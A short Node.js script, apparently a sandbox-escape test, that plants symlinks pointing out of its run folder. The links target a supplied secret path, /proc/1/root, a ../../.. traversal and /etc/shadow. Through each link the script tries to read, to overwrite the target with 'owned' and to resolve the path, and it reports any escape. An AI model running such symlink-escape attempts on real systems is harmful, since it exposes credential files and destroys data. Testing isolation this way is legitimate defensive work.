// Links that lead out of the folder of the run.
const fs = require('fs')
const secret = process.argv[2]
for (const [i, target] of [secret, `/proc/1/root${secret}`, `../../..${secret}`, '/proc/self/cwd/../../../etc/shadow'].entries()) {
  fs.symlinkSync(target, `/tmp/app/link${i}`)
  for (const use of [fs.readFileSync, (path) => fs.writeFileSync(path, 'owned'), fs.realpathSync])
    try {
      use(`/tmp/app/link${i}`)
      console.log('ESCAPED: followed', target)
    } catch (error) {
      console.log(error.code)
    }
}
